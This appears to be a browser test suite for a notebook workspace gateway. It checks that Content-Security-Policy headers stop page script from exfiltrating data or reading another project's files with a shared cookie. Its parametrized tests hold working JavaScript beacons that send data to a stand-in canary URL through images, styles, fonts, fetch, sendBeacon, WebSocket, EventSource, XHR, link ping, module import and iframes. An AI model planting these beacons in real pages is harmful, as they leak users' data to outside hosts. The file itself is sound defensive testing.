"""Script in a workspace's page that wants to tell somebody something: nothing that it starts arrives."""

from collections.abc import Iterator

import pytest
from aiohttp import web

from tests.attacks.claims import By, Stops, attack
from tests.attacks.pages import Canary, ordinary, run, workspace
from tests.browser.framed import framed
from tests.browser.people import browser
from tests.workspaces.gate.conftest import BASE

__all__ = ["browser", "framed"]
pytestmark = pytest.mark.browser
HEADERS = "workspaces/gate/headers.py"


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


@pytest.fixture
def home() -> Iterator[Canary]:
    """Where the controls' page comes from."""
    made = Canary()
    yield made
    made.close()


def from_an_ordinary_page(browser, home, canary, script: str) -> list[str]:
    """What the canary hears of a script where nothing stops it."""
    with ordinary(browser, home) as page:
        run(page, page.main_frame, script, canary.url)
    heard, canary.heard = canary.heard, []
    return heard


def from_a_workspace(browser, framed, canary, script: str) -> list[str]:
    """And of the same in a workspace's page."""
    with workspace(browser, framed) as (page, inner):
        run(page, inner, script, canary.url)
        assert f"{BASE}lab" in inner.url, "the frame is where it was"
    return canary.heard


@attack(
    "beacon-by-image",
    by=By.PAGE,
    stops=Stops(HEADERS, 'f"img-src {base}/static/ {base}/lab/ {base}/kernelspecs/ data: blob:",', '"img-src *",'),
)
@pytest.mark.parametrize(
    "script",
    [
        "url => { new Image().src = url + '/image' }",
        "url => { const e = document.createElement('video'); e.poster = url; document.body.append(e) }",
        "url => { document.body.style.backgroundImage = `url(${url}/background)` }",
        "url => { const e = document.createElement('link'); e.rel = 'icon'; e.href = url; document.head.append(e);"
        " new Image().srcset = url + '/set 1x' }",
    ],
)
def test_no_image_is_asked_for(browser, framed, canary, control, home, script):
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []


@attack(
    "beacon-by-style",
    by=By.PAGE,
    stops=Stops(
        HEADERS, "f\"style-src {base}/static/ {base}/lab/ 'unsafe-inline'\",", "\"style-src * 'unsafe-inline'\","
    ),
)
@pytest.mark.parametrize(
    "script",
    [
        "url => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = url;"
        " document.head.append(e) }",
        "url => { const e = document.createElement('style'); e.textContent = `@import '${url}'`;"
        " document.head.append(e) }",
    ],
)
def test_no_style_is_asked_for(browser, framed, canary, control, home, script):
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []


@attack(
    "beacon-by-font",
    by=By.PAGE,
    stops=Stops(HEADERS, 'f"font-src {base}/static/ {base}/lab/ data:",', '"font-src *",'),
)
def test_no_font_is_asked_for(browser, framed, canary, control, home):
    script = "url => new FontFace('x', `url(${url}/font)`).load().catch(() => 0)"
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []


CONNECT = Stops(HEADERS, 'f"connect-src {base}/ {channel}/",', '"connect-src *",')


@attack("beacon-by-connection", by=By.PAGE, stops=CONNECT)
@pytest.mark.parametrize(
    "script",
    [
        "url => fetch(url, { mode: 'no-cors' }).catch(() => 0)",
        "url => { navigator.sendBeacon(url, 'rows') }",
        "url => { new WebSocket(url.replace('http', 'ws')) }",
        "url => { new EventSource(url) }",
        "url => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('rows') }",
        "url => { const e = document.createElement('a'); e.href = '#'; e.ping = url; document.body.append(e);"
        " e.click() }",
    ],
)
def test_no_connection_is_opened(browser, framed, canary, control, home, script):
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []


@attack("reading-another-project", by=By.PAGE, stops=CONNECT)
def test_a_page_of_one_project_does_not_read_another_of_the_same_person(browser, framed, control):
    """Both are of one origin, and the browser sends the other's cookie along."""
    other = f"{framed.world.work}/user/alice/diabetes-care/api/contents"
    asked = []

    async def rows(request):
        asked.append(request.path)
        return web.json_response({"content": "rows"})

    place = ("alice", "diabetes-care")
    framed.run(framed.world.workspace(rows, place))
    script = "url => fetch(url).then(answer => answer.text()).catch(error => String(error))"
    with workspace(browser, framed) as (page, inner):
        name, _, value = framed.world.inside(project="diabetes-care")["Cookie"].partition("=")
        path = "/user/alice/diabetes-care/"
        page.context.add_cookies([{"name": name, "value": value, "domain": "localhost", "path": path}])
        with control("with the cookies of this browser it is read, outside the page"):
            assert "rows" in page.context.request.get(other).text()
        asked.clear()
        assert "rows" not in inner.evaluate(script, other)
    assert asked == []


@attack(
    "script-of-somebody-else",
    by=By.PAGE,
    stops=Stops(
        HEADERS,
        "f\"script-src {base}/static/ {base}/lab/extensions/ 'unsafe-eval'\",",
        "\"script-src * 'unsafe-eval'\",",
    ),
)
def test_no_script_of_another_address_is_loaded(browser, framed, canary, control, home):
    script = "url => import(url + '/module.js').catch(() => 0)"
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []


@attack("frame-within-the-frame", by=By.PAGE, stops=Stops(HEADERS, "\"frame-src 'none'\",", '"frame-src *",'))
def test_nothing_is_shown_in_a_frame_of_its_own(browser, framed, canary, control, home):
    script = (
        "url => { const e = document.createElement('iframe'); e.src = url + '/frame'; document.body.append(e) }"
    )
    with control("in an ordinary page it is heard"):
        assert from_an_ordinary_page(browser, home, canary, script)
    assert from_a_workspace(browser, framed, canary, script) == []
